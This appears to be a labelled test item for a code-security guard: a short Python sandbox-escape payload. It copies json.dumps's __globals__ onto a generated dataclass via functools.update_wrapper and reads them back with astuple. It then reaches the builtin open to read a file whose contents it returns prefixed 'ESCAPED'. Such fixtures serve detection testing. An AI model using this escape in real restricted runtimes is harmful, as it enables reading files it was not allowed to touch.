# guard: CODE_SECURITY|CODE_RUNTIME
# bare: CODE_RUNTIME|CODE_SECURITY|-
# what: the fields of a made dataclass copied from a function and read back by astuple
import copy
import dataclasses
import functools
Box = dataclasses.make_dataclass("Box", ["__globals__"])
box = functools.update_wrapper(Box(None), json.dumps, assigned=("__globals__",), updated=())
kept = []
class Taker(dict):
    pass
for field in dataclasses.fields(box):
    kept.append(field.name)
(names,) = dataclasses.astuple(box)
return "ESCAPED " + names["__builtins__"]["open"](inputs["file"]).read()
